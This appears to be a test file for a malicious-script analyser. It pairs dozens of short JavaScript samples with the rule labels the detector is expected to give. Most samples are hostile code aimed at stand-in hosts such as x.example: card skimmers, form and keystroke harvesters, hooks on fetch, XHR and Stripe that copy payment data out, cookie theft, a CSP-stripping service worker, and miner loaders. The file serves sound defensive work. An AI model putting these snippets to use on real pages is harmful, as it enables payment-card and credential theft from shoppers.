import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { signMeanings, weightOf, type Sign } from '../../../../analyzer/static/evidence/signs.ts';
import { evidenceRules } from '../../../../analyzer/static/evidence/index.ts';
import { standoutRule } from '../../../../analyzer/standout.ts';
import { traceRules } from '../../../../analyzer/trace/index.ts';
import { evidence as evidenceSchema, severities } from '../../../../core/schema/index.ts';
import { analyse } from '../flow/analyse.ts';

/** `severity rule`, worst first. */
function reasons(text: string): string[] {
  return analyse(text).evidence.map(({ severity, rule }) => `${severity} ${rule}`);
}

const card = `document.getElementById('cc-number').value`;

const cases: Record<string, [string, string[]]> = {
  'a payment SDK that posts to its host': [
    `window.Pay=function(form){return fetch('https://api.pay.example/tokens',{method:'POST',body:JSON.stringify({number:form.querySelector('[name=cardnumber]').value})}).then(function(r){return r.json()})}`,
    ['medium card-field-to-host'],
  ],
  'a skimmer on submit': [
    `document.querySelector('form').addEventListener('submit',function(){fetch('https://x.example/',{mode:'no-cors',method:'POST',body:btoa(${card})})})`,
    ['critical card-field-to-host'],
  ],
  'card data in the address of an image': [
    `new Image().src='https://x.example/p.gif?d='+${card}`,
    ['critical card-data-in-image-url', 'high card-field-to-host'],
  ],
  'card data over a socket': [
    `var s=new WebSocket('wss://x.example/');s.send(${card})`,
    ['high card-data-to-websocket', 'medium card-field-to-host'],
  ],
  'every input taken on checkout pages': [
    `if(/checkout/.test(location.href))setInterval(function(){var o={};document.querySelectorAll('input').forEach(function(e){o[e.name]=e.value});navigator.sendBeacon('https://x.example/',btoa(JSON.stringify(o)))},500)`,
    ['critical form-harvest-to-host', 'medium checkout-gate'],
  ],
  'key presses': [
    `var s=new WebSocket('wss://x.example/');document.onkeypress=function(e){s.send(e.key)}`,
    ['high keystrokes-to-host'],
  ],
  "a copy of the page's payment requests": [
    `var f=window.fetch;window.fetch=function(u,o){if(o&&/cvv/.test(o.body))navigator.sendBeacon('https://x.example/v1',o.body);return f.apply(this,arguments)}`,
    ['critical page-requests-copied'],
  ],
  'a copy by the number of an argument': [
    `var f=fetch;window.fetch=function(){var a=arguments;new Image().src='https://x.example/?'+btoa(arguments[1].body);return f.apply(this,a)}`,
    ['critical page-requests-copied'],
  ],
  'a copy of what XMLHttpRequest sends': [
    `var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){if(/card/.test(b))fetch('https://x.example/',{method:'POST',body:b});return s.call(this,b)}`,
    ['critical page-requests-copied'],
  ],
  'a copy of what JSON.stringify packs': [
    `(function(s){JSON.stringify=function(v){var t=s.apply(JSON,arguments);if(v&&v.card)new EventSource('https://x.example/?'+btoa(t));return t}})(JSON.stringify)`,
    ['critical page-requests-copied'],
  ],
  'a copy of what a payment library is given': [
    `var t=Stripe.createToken;Stripe.createToken=function(c,f){new Image().src='https://x.example/?'+btoa(JSON.stringify(c));return t.call(this,c,f)}`,
    ['critical page-requests-copied'],
  ],
  'a copy of all that a payment library is given': [
    `const real=sdk.confirmPayment.bind(sdk);sdk.confirmPayment=async(...all)=>{await fetch('https://x.example/',{method:'POST',body:JSON.stringify(all)});return real(...all)}`,
    ['high page-requests-copied'],
  ],
  'a payment library that makes such a function': [
    `var ns=window.pay=window.pay||{};ns.createToken=function(c){return fetch('https://api.x.example/',{method:'POST',body:JSON.stringify(c)})}`,
    [],
  ],
  'a clock around a function of a payment library': [
    `var t=pay.tokenize;pay.tokenize=function(c,f){var s=Date.now();return t.call(pay,c,function(e,r){navigator.sendBeacon('https://apm.example/',String(Date.now()-s));f(e,r)})}`,
    [],
  ],
  'a script from a host in pieces': [
    `var s=document.createElement('script');s.src=['ht','tps://sta','ts-cd','n.example/a.js'].join('');document.head.appendChild(s)`,
    ['high script-from-decoded-url'],
  ],
  'a host joined from whole parts': [
    `var s=document.createElement('script');s.src='https://'+['cdn','stats','example'].join('.')+'/a.js';document.head.appendChild(s)`,
    [],
  ],
  'code that a contract holds': [
    `(async()=>{const r=await fetch('https://rpc.example/',{method:'POST',body:JSON.stringify({method:'eth_call',params:[]})});const h=(await r.json()).result;let s='';for(let i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));eval(s)})()`,
    ['high answer-run-as-code', 'low decoded-code-executed'],
  ],
  'cookies with all that is stored': [
    `fetch('https://x.example/',{method:'POST',body:JSON.stringify({c:document.cookie,l:{...localStorage}})})`,
    ['medium cookies-to-host'],
  ],
  'an agent that measures requests': [
    `var f=window.fetch;window.fetch=function(u,o){var t=Date.now();return f.apply(this,arguments).then(function(r){navigator.sendBeacon('https://apm.example/v1',JSON.stringify({url:String(u),method:o&&o.method,ms:Date.now()-t,status:r.status,size:o&&o.body?o.body.length:0}));return r})};var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){this.t=Date.now();return s.apply(this,arguments)}`,
    [],
  ],
  'card data to a frame of another host': [
    `var f=document.createElement('iframe');f.src='https://x.example/w.html';document.body.appendChild(f);document.addEventListener('change',function(){f.contentWindow.postMessage(document.querySelector('[autocomplete^="cc-"]').value,'*')})`,
    ['medium card-field-to-host'],
  ],
  'card data in a style sheet': [
    `var s=document.head.appendChild(document.createElement('style'));s.textContent='p{background:url(https://x.example/'+${card}+'.png)}'`,
    ['critical card-data-in-image-url', 'medium card-field-to-host'],
  ],
  'a newsletter form': [
    `fetch('https://news.example/',{method:'POST',body:document.getElementById('email').value}).then(function(r){})`,
    ['info personal-field-to-host'],
  ],
  'a digest of an address, in the address of an image': [
    `async function sha(s){return hex(await crypto.subtle.digest('SHA-256',new TextEncoder().encode(s)))}document.addEventListener('submit',async function(e){new Image().src='https://x.example/?em='+await sha(document.querySelector('#email').value)})`,
    ['low personal-field-to-host'],
  ],
  'an address in base64, in the address of an image': [
    `document.addEventListener('submit',function(e){new Image().src='https://x.example/?em='+btoa(document.querySelector('#email').value+document.querySelector('#phone').value)})`,
    ['medium personal-field-to-host'],
  ],
  'a digest of a card': [
    `async function sha(s){return hex(await crypto.subtle.digest('SHA-256',new TextEncoder().encode(s)))}document.addEventListener('submit',async function(e){new Image().src='https://x.example/?em='+await sha(${card})})`,
    ['critical card-data-in-image-url', 'critical card-field-to-host'],
  ],
  'a look-up of addresses by a script that answers': [
    `document.querySelector('#street').addEventListener('keyup',function(){var s=document.createElement('script');s.src='https://x.example/find?callback=cb&q='+this.value;document.head.appendChild(s)})`,
    ['info personal-field-to-host'],
  ],
  "a shop's own checkout": [`fetch('/pay',{method:'POST',body:${card}}).then(function(r){})`, []],
  'card data kept in the browser': [`localStorage.setItem('k',${card})`, ['medium card-data-stored']],
  'a borrowed name': [
    `fetch('https://google-anaiytics.example/');new Image().src='https://www.google-analytics.top/x'`,
    ['medium imitated-host', 'medium imitated-host'],
  ],
  'the genuine service': [`new Image().src='https://www.google-analytics.com/x'`, []],
  'decoded code that is run': [`eval(atob('YWxlcnQoMSk='))`, ['high decoded-code-executed']],
  'decoded HTML that is written': [
    `document.write(unescape('%3Ciframe src=//x.example/%3E'))`,
    ['high decoded-document-write', 'medium script-from-decoded-url'],
  ],
  'a script from a decoded address': [
    `var s=document.createElement('script');s.src=atob('aHR0cHM6Ly94LmV4YW1wbGUvcy5qcw==');document.head.appendChild(s)`,
    ['high script-from-decoded-url', 'low veiled-address'],
  ],
  'a redirect to a decoded address': [
    `location.href=atob('aHR0cHM6Ly94LmV4YW1wbGUv')`,
    ['high redirect-to-decoded-url', 'low veiled-address'],
  ],
  'an address in entities': [
    `"&#104;&#116;&#116;&#112;&#115;&#58;&#47;&#47;&#120;&#46;&#105;&#111;&#47;"`,
    ['medium veiled-address'],
  ],
  'an address backwards': [`var a='sj.a/elpmaxe.x//:sptth'`, ['medium veiled-address']],
  'cookies in the address of an image': [
    `new Image().src='https://x.example/?c='+document.cookie`,
    ['low cookies-to-host'],
  ],
  'a miner of a name nobody knows': [
    `var m=new Abc.Anonymous('780c65e12f7eaebadd433b1eb488f45a');m.start()`,
    ['high miner-api'],
  ],
  'a frame nobody can see': [
    `document.write('<iframe src="https://x.example/" width="0" height="0"></iframe>')`,
    ['medium hidden-iframe'],
  ],
  "a miner's file": [
    `var s=document.createElement('script');s.src='https://coin-hive.example/lib/coinhive.min.js';document.head.appendChild(s)`,
    ['medium miner-workload'],
  ],
  'a borrowed name behind a choice of protocols': [
    `var s=document.createElement('script');s.src=('https:'==location.protocol?'https://':'http://')+'a.cdn-wp-content.example/t.js?v='+Math.random();document.head.appendChild(s)`,
    ['medium imitated-host'],
  ],
  'a miner by its interface': [`var m=new CoinHive.Anonymous('k');m.start()`, ['high miner-api']],
  'a miner by its means': [
    `new Worker('w.js');var s=new WebSocket('wss://pool.example/');s.send('stratum+tcp');WebAssembly.instantiate(b)`,
    ['high miner-workload'],
  ],
  'an exploit for an old browser': [`new ActiveXObject('WScript.Shell')`, ['high activex-exploit']],
  'components that are only listed': [`var l=['WScript.Shell','ADODB.Stream']`, []],
  shellcode: [`var s=unescape('${'%u9090'.repeat(4)}')`, ['high shellcode']],
  'a frame in a box out of sight': [
    `var a='https://x.example/',d=document.createElement('div');d.innerHTML="<div style='position:absolute;top:-1000px'><iframe src='"+a+"'></iframe></div>"`,
    ['medium hidden-iframe'],
  ],
  'a library that is a program': [
    `var s=document.createElement('script');s.src='http://x.example/js/jquery.min.php?r='+document.referrer;document.head.appendChild(s)`,
    ['high imitated-library'],
  ],
  'a library that is a file': [
    `var s=document.createElement('script');s.src='http://x.example/js/jquery.min.js';document.head.appendChild(s)`,
    [],
  ],
  'borrowed names with an addition': [
    `new Image().src='https://jquery-code.example/x';new Image().src='https://a.cdn-wp-content.example/'`,
    ['medium imitated-host', 'medium imitated-host'],
  ],
  'a borrowed name made harmless for a report': [
    `new Image().src='hxxps://jquery0[.]example/x'`,
    ['medium imitated-host'],
  ],
  'names put together from pieces': [
    `var r='user',d=window['docu'+'ment'],n=navigator[r+'Agent'],f=String['from'+'Char'+(3>2?'Code':'x')];d['create'+'Element']('scr'+'ipt')`,
    ['high names-in-pieces'],
  ],
  'ordinary computed names': [`var s={};for(var i=0;i<3;i++)s['on'+i]=window['__n'+i];s[i+'px']`, []],
  'a worker that takes down the defences of pages': [
    `addEventListener('fetch',function(e){e.respondWith(go(e.request))});async function go(q){var r=await fetch(q);var t=(await r.text()).replace('</body>','<script src="https://x.example/a.js"></scr'+'ipt></body>');r=new Response(t,r);r.headers.delete('Content-Security-Policy');return r}`,
    ['high response-tampered'],
  ],
  'a worker that caches': [
    `addEventListener('fetch',function(e){e.respondWith(caches.match(e.request).then(function(r){return r||fetch(e.request)}))})`,
    [],
  ],
  'no gate in what stays away from checkout pages': [
    `if(!/checkout/.test(location.pathname)){var s=document.createElement('script');s.src='https://x.example/a.js';document.head.appendChild(s)}`,
    [],
  ],
  'no gate in what leaves at checkout pages': [
    `(function(){if(location.href.indexOf('/checkout')>-1)return;var s=document.createElement('script');s.src='https://x.example/a.js';document.head.appendChild(s)})()`,
    [],
  ],
  'a gate in what leaves at all other pages': [
    `(function(){if(location.href.indexOf('checkout')===-1)return;var s=document.createElement('script');s.src='https://x.example/a.js';document.head.appendChild(s)})()`,
    ['medium checkout-gate'],
  ],
  'a script for checkout pages only': [
    `if(/onepage|checkout/.test(location.href)){var s=document.createElement('script');s.src='https://x.example/a.js';document.head.appendChild(s)}`,
    ['medium checkout-gate'],
  ],
  'checkout pages in a list, and a script in markup': [
    `var l=['onepage|checkout|onestep','<script src="https://x.example/a.js"></scr'+'ipt>'];if(new RegExp(l[0]).test(location))document.write(l[1])`,
    ['medium checkout-gate'],
  ],
  'a page compared with the checkout': [
    `var p=location.pathname;if(p=='/checkout/'){fetch('/x',{method:'POST',body:document.getElementById('email').value})}`,
    ['low checkout-gate'],
  ],
  'sales counted where the shop says thanks': [
    `if(location.pathname.match(/checkouts.+thank_you/)){var s=document.createElement('script');s.src='https://x.example/a.js';document.head.appendChild(s)}`,
    [],
  ],
  'a host of which the registered part can be read': [
    `var s=location.protocol=='https:'?'https://s':'http://',f=document.createElement('iframe');f.src=s+'stats.x.example/d.html';f.style.height='0px'`,
    ['low hidden-iframe'],
  ],
  'a form of its own': [
    `document.body.innerHTML='<form><input name="cc_number"></form>'`,
    ['low fake-payment-form'],
  ],
  'a look for developer tools': [`if(window.outerWidth-window.innerWidth>160)x()`, ['low anti-devtools']],
  'nothing in ordinary code': [
    `document.querySelectorAll('.tab').forEach(function(t){t.addEventListener('click',function(){t.classList.add('on')})});fetch('https://api.example/v1').then(function(r){return r.json()})`,
    [],
  ],
};

describe('evidence', () => {
  for (const [title, [script, expected]] of Object.entries(cases))
    it(`sees ${title}`, () => assert.deepEqual(reasons(script), expected));

  it('says in plain words what is read, when, and where it goes', () => {
    const text = `\n  document.forms[0].addEventListener('submit', function () {\n    fetch('https://stats.x.example/c', { body: btoa(${card}) });\n  });`;
    const [first] = analyse(text).evidence;
    assert.match(
      first!.message,
      /^Reads `#cc-number` on submit and sends it to stats\.x\.example over fetch, as base64/,
    );
    assert.deepEqual(first!.location, { line: 3, column: 5 });
    assert.equal(first!.field, '#cc-number');
    assert.equal(first!.host, 'stats.x.example');
    assert.match(first!.snippet, /fetch\('https:\/\/stats/);
    assert.deepEqual(first!.steps!.at(0)!.location, { line: 3, column: 53 });
  });

  it('keeps to the published shape and to the severities each rule declares', () => {
    for (const [script] of Object.values(cases))
      for (const one of analyse(script).evidence) {
        evidenceSchema.parse(one);
        const rule = evidenceRules.find(({ name }) => name === one.rule);
        const [least, most] = rule!.severity.map((severity) => severities.indexOf(severity));
        const rank = severities.indexOf(one.severity);
        assert.ok(rank >= least! && rank <= most!, `${one.rule} gave ${one.severity}`);
      }
  });

  it('weighs signs as its reference says', () => {
    const page = readFileSync(new URL('../../../../docs/reference/evidence.md', import.meta.url), 'utf8');
    const rows = [...page.matchAll(/^\| ([a-z-]+) \| (\d) \| (.+) \|$/gm)].map(([, ...row]) => row);
    const signs = Object.entries(signMeanings) as [Sign, string][];
    assert.deepEqual(
      rows,
      signs.map(([sign, meaning]) => [sign, String(weightOf([sign])), meaning]),
    );
  });

  it('has the rules that its reference lists, those of the run among them', () => {
    const page = readFileSync(new URL('../../../../docs/reference/evidence.md', import.meta.url), 'utf8');
    const rows = [...page.matchAll(/^\| `([a-z-]+)` \| ([a-z ]+) \| (.+) \|$/gm)].map(([, ...row]) => row);
    const rules = [...evidenceRules, ...traceRules, standoutRule].map(
      ({ name, severity: [least, most], meaning }) => [
        name,
        least === most ? least : `${least} to ${most}`,
        meaning,
      ],
    );
    assert.deepEqual(rows, rules);
  });
});
